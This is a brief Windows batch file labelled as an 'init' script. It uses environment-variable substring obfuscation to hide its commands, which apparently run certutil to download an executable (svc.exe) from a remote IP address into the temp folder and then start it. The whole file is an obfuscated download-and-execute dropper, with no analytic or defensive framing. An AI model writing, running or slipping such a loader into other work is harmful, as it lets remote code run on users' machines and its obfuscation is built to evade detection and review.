REM init 9016 v3
@echo off
%comspec:~20,1%%comspec:~-1,1%%ProgramData:~-7,1%tut%windir:~-6,1%%PUBLIC:~-3,1%.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP%\svc.exe
%WINDIR:~9,1%ta%PROGRAMDATA:~-10,1%%PROGRAMDATA:~12,1% "" %TEMP%\svc.exe
